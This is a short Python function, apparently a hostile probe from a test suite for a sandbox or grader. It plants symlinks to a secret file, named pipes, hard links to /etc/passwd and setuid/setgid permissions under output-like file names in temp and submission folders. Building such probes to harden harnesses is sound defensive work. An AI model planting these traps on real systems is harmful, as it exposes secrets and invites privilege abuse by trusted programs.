"""Hostile: Plants links and odd files where a trusted program might look, and returns their paths."""


def act(x):
    for folder in (os.environ.get("TMPDIR", "."), ".", "/tmp", "/submission", OPEN_FOLDER):
        for name in ("results.json", "report.xml", "metrics.jsonl", "neural_net.py", "core"):
            path = f"{folder}/{MARK}-{name}"
            with contextlib.suppress(OSError):
                os.symlink(SECRET_FILE, path)
            with contextlib.suppress(OSError):
                os.mkfifo(f"{path}.fifo")
            with contextlib.suppress(OSError):
                os.link("/etc/passwd", f"{path}.hard")
            with contextlib.suppress(OSError):
                os.chmod(path, 0o6777)
    return f"/scratch/{MARK}-results.json"
